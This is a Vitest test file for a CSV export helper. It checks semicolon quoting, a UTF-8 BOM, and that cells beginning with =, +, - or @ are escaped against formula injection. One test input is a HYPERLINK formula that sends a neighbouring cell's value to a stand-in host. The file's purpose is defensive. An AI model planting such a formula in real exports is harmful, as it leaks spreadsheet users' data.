import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

describe('CSV', () => {
  it('quotes what a spreadsheet would split and keeps accents readable (BOM)', () => {
    expect(
      toCsv([
        ['Qui', 'Quoi'],
        ['Infirmier·ère', 'Bilan; pansement "propre"'],
      ]),
    ).toBe('\uFEFFQui;Quoi\r\nInfirmier·ère;"Bilan; pansement ""propre"""\r\n');
  });

  it('never lets a cell run as a formula', () => {
    expect(csvCell('=HYPERLINK("https://x.example?"&B2;"voir")')).toBe(
      '"\'=HYPERLINK(""https://x.example?""&B2;""voir"")"',
    );
    expect(csvCell('+48 h')).toBe("'+48 h");
    expect(csvCell('-1 jour')).toBe("'-1 jour");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('J+2')).toBe('J+2');
  });
});
